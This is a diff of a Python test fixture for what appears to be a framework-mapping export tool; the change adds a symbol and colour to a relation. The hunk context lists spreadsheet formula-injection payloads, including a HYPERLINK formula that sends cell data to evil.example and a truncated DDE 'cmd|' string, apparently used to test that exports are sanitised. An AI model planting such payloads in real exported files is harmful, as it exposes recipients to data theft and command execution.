@@ -198,7 +198,7 @@ EVIL = ['=HYPERLINK("https://evil.example/?x="&A1,"click me")', "@SUM(1+1)*cmd|'
 @pytest.fixture()
 def evil_model() -> Model:
     relation = Relation("related", Label("Related", "Verwant"), _text("Related."), "skos:relatedMatch",
-                        "isRelatedTo", "related", 1)
+                        "isRelatedTo", "related", 1, "~", "#bf360c")
     mapping = Mapping("EVIL:1", "SAFE:1", "related", _text("=1+1 is the rationale"), "=team", "2024-05-07")
     return Model((_framework("EVIL", EVIL), _framework("SAFE", ["safe"])), (relation,),
                  (MappingSet("EVIL--SAFE", "EVIL", "SAFE", (mapping,)),))
